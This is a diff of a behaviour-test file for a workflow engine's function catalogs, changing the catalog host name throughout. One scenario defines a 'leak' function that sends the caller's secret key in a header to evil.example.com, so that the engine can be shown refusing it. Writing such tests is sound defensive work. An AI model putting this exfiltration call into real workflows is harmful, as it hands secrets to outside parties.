@@ -2,7 +2,7 @@ Feature: Catalogs
   Functions and schemas in documents of their own are read when a definition is deployed, and become a part of it.
 
   Scenario: A function of a catalog is called with what the call passes
-    Given the resource "https://tools.example.com/catalog/functions/greet/1.0.0/function.yaml" is:
+    Given the resource "https://functions.example.org/catalog/functions/greet/1.0.0/function.yaml" is:
       """yaml
       set: { greeting: '${ "Hello \(.name)" }' }
       """
@@ -11,7 +11,7 @@ Feature: Catalogs
       document: { dsl: '1.0.3', namespace: test, name: catalog-call, version: '1.0.0' }
       use:
         catalogs:
-          shop: { endpoint: { uri: https://tools.example.com/catalog } }
+          shop: { endpoint: { uri: https://functions.example.org/catalog } }
       do:
         - hello: { call: 'greet:1.0.0@shop', with: { name: '${ .who }' } }
       """
@@ -28,11 +28,11 @@ Feature: Catalogs
     And greet should run after hello
 
   Scenario: The version that is asked for is the one that is called
-    Given the resource "https://tools.example.com/functions/price/1.0.0/function.yaml" is:
+    Given the resource "https://functions.example.org/functions/price/1.0.0/function.yaml" is:
       """yaml
       set: { price: 100 }
       """
-    And the resource "https://tools.example.com/functions/price/1.1.0/function.yaml" is:
+    And the resource "https://functions.example.org/functions/price/1.1.0/function.yaml" is:
       """yaml
       set: { price: 110 }
       """
@@ -41,7 +41,7 @@ Feature: Catalogs
       document: { dsl: '1.0.3', namespace: test, name: catalog-version, version: '1.0.0' }
       use:
         catalogs:
-          shop: { endpoint: https://tools.example.com/ }
+          shop: { endpoint: https://functions.example.org/ }
       do:
         - both:
             fork:
@@ -83,7 +83,7 @@ Feature: Catalogs
       """
 
   Scenario: The input of a function of a catalog has to fit its schema
-    Given the resource "https://tools.example.com/functions/greet/1.0.0/function.yaml" is:
+    Given the resource "https://functions.example.org/functions/greet/1.0.0/function.yaml" is:
       """yaml
       input:
         schema: { document: { type: object, properties: { name: { type: string } }, required: [name] } }
@@ -94,7 +94,7 @@ Feature: Catalogs
       document: { dsl: '1.0.3', namespace: test, name: catalog-input, version: '1.0.0' }
       use:
         catalogs:
-          shop: { endpoint: https://tools.example.com }
+          shop: { endpoint: https://functions.example.org }
       do:
         - hello: { call: 'greet:1.0.0@shop', with: { name: '${ .who }' } }
       """
@@ -111,7 +111,7 @@ Feature: Catalogs
       """
 
   Scenario: The output of a function of a catalog has to fit its schema
-    Given the resource "https://tools.example.com/functions/price/1.0.0/function.yaml" is:
+    Given the resource "https://functions.example.org/functions/price/1.0.0/function.yaml" is:
       """yaml
       set: { price: '${ .price }' }
       output:
@@ -122,7 +122,7 @@ Feature: Catalogs
       document: { dsl: '1.0.3', namespace: test, name: catalog-output, version: '1.0.0' }
       use:
         catalogs:
-          shop: { endpoint: https://tools.example.com }
+          shop: { endpoint: https://functions.example.org }
       do:
         - quote: { call: 'price:1.0.0@shop', with: { price: free } }
       """
@@ -135,7 +135,7 @@ Feature: Catalogs
       """
 
   Scenario: An error inside a function of a catalog has its place, and can be caught around the call
-    Given the resource "https://tools.example.com/functions/reserve/1.0.0/function.yaml" is:
+    Given the resource "https://functions.example.org/functions/reserve/1.0.0/function.yaml" is:
       """yaml
       do:
         - check:
@@ -146,7 +146,7 @@ Feature: Catalogs
       document: { dsl: '1.0.3', namespace: test, name: catalog-fault, version: '1.0.0' }
       use:
         catalogs:
-          shop: { endpoint: https://tools.example.com }
+          shop: { endpoint: https://functions.example.org }
       do:
         - attempt:
             try:
@@ -164,7 +164,7 @@ Feature: Catalogs
       """
 
   Scenario: A function of a catalog asks a stage, and calls another function by its URL
-    Given the resource "https://tools.example.com/functions/pay/2.0.0/function.yaml" is:
+    Given the resource "https://functions.example.org/functions/pay/2.0.0/function.yaml" is:
       """yaml
       do:
         - charge: { call: 'charge:1.0.0@default', with: { amount: '${ .amount }' } }
@@ -179,7 +179,7 @@ Feature: Catalogs
       document: { dsl: '1.0.3', namespace: test, name: catalog-nested, version: '1.0.0' }
       use:
         catalogs:
-          shop: { endpoint: https://tools.example.com }
+          shop: { endpoint: https://functions.example.org }
       do:
         - buy: { call: 'pay:2.0.0@shop', with: { amount: 3 } }
       """
@@ -195,7 +195,7 @@ Feature: Catalogs
     And the idempotency key of charge should be the same in every request
 
   Scenario: A function of use wraps one of a catalog, and a map calls it for every item
-    Given the resource "https://tools.example.com/functions/double/1.0.0/function.yaml" is:
+    Given the resource "https://functions.example.org/functions/double/1.0.0/function.yaml" is:
       """yaml
       set: '${ .n * 2 }'
       """
@@ -204,7 +204,7 @@ Feature: Catalogs
       document: { dsl: '1.0.3', namespace: test, name: catalog-map, version: '1.0.0' }
       use:
         catalogs:
-          shop: { endpoint: https://tools.example.com }
+          shop: { endpoint: https://functions.example.org }
         functions:
           twice: { call: 'double:1.0.0@shop', with: { n: '${ . }' } }
       do:
@@ -221,7 +221,7 @@ Feature: Catalogs
       """
 
   Scenario: What a caller passes to a function of a catalog stays data
-    Given the resource "https://tools.example.com/functions/echo/1.0.0/function.yaml" is:
+    Given the resource "https://functions.example.org/functions/echo/1.0.0/function.yaml" is:
       """yaml
       set: { said: '${ .text }' }
       """
@@ -230,7 +230,7 @@ Feature: Catalogs
       document: { dsl: '1.0.3', namespace: test, name: catalog-data, version: '1.0.0' }
       use:
         catalogs:
-          shop: { endpoint: https://tools.example.com }
+          shop: { endpoint: https://functions.example.org }
       do:
         - say: { call: 'echo:1.0.0@shop', with: { text: '${ .text }' } }
       """
@@ -293,7 +293,7 @@ Feature: Catalogs
       """
 
   Scenario: A function that the catalog does not have is told with the nearest one
-    Given the resource "https://tools.example.com/functions/greet/1.0.0/function.yaml" is:
+    Given the resource "https://functions.example.org/functions/greet/1.0.0/function.yaml" is:
       """yaml
       set: {}
       """
@@ -302,7 +302,7 @@ Feature: Catalogs
       document: { dsl: '1.0.3', namespace: test, name: catalog-misspelt, version: '1.0.0' }
       use:
         catalogs:
-          shop: { endpoint: https://tools.example.com }
+          shop: { endpoint: https://functions.example.org }
       do:
         - hello: { call: 'gret:1.0.0@shop' }
       """
@@ -314,7 +314,7 @@ Feature: Catalogs
       document: { dsl: '1.0.3', namespace: test, name: catalog-unknown, version: '1.0.0' }
       use:
         catalogs:
-          shop: { endpoint: https://tools.example.com }
+          shop: { endpoint: https://functions.example.org }
       do:
         - hello: { call: 'greet:1.0.0@shopp' }
       """
@@ -326,14 +326,14 @@ Feature: Catalogs
       document: { dsl: '1.0.3', namespace: test, name: catalog-closed, version: '1.0.0' }
       use:
         catalogs:
-          shop: { endpoint: https://tools.example.com/catalog }
+          shop: { endpoint: https://functions.example.org/catalog }
       do:
         - hello: { call: 'greet:1.0.0@shop' }
       """
-    Then the definition should be refused at "/do/0/hello/call" with "--allow-catalog https://tools.example.com/catalog/"
+    Then the definition should be refused at "/do/0/hello/call" with "--allow-catalog https://functions.example.org/catalog/"
 
   Scenario: A mistake in a function file is told in the lines of that file
-    Given the resource "https://tools.example.com/functions/greet/1.0.0/function.yaml" is:
+    Given the resource "https://functions.example.org/functions/greet/1.0.0/function.yaml" is:
       """yaml
       do:
         - hello: { set: { greeting: '${ .name + }' } }
@@ -343,14 +343,14 @@ Feature: Catalogs
       document: { dsl: '1.0.3', namespace: test, name: catalog-mistake, version: '1.0.0' }
       use:
         catalogs:
-          shop: { endpoint: https://tools.example.com }
+          shop: { endpoint: https://functions.example.org }
       do:
         - hello: { call: 'greet:1.0.0@shop' }
       """
-    Then the resource "https://tools.example.com/functions/greet/1.0.0/function.yaml" should be refused at "/do/0/hello/set/greeting" with "ends too early"
+    Then the resource "https://functions.example.org/functions/greet/1.0.0/function.yaml" should be refused at "/do/0/hello/set/greeting" with "ends too early"
 
   Scenario: A function of a catalog gets no secret of the definition that calls it
-    Given the resource "https://tools.example.com/functions/leak/1.0.0/function.yaml" is:
+    Given the resource "https://functions.example.org/functions/leak/1.0.0/function.yaml" is:
       """yaml
       call: http
       with: { method: get, endpoint: 'https://evil.example.com', headers: { X-Key: '${ $secrets.key }' } }
@@ -361,11 +361,11 @@ Feature: Catalogs
       use:
         secrets: [key]
         catalogs:
-          shop: { endpoint: https://tools.example.com }
+          shop: { endpoint: https://functions.example.org }
       do:
         - hello: { call: 'leak:1.0.0@shop' }
       """
-    Then the resource "https://tools.example.com/functions/leak/1.0.0/function.yaml" should be refused at "/with/headers/X-Key" with "sees none of its callers'"
+    Then the resource "https://functions.example.org/functions/leak/1.0.0/function.yaml" should be refused at "/with/headers/X-Key" with "sees none of its callers'"
 
   Scenario: A catalog that asks for credentials is refused with the reason
     Given a workflow with definition:
@@ -374,7 +374,7 @@ Feature: Catalogs
       use:
         secrets: [token]
         catalogs:
-          shop: { endpoint: { uri: https://tools.example.com, authentication: { bearer: { use: token } } } }
+          shop: { endpoint: { uri: https://functions.example.org, authentication: { bearer: { use: token } } } }
       do:
         - hello: { call: 'greet:1.0.0@shop' }
       """
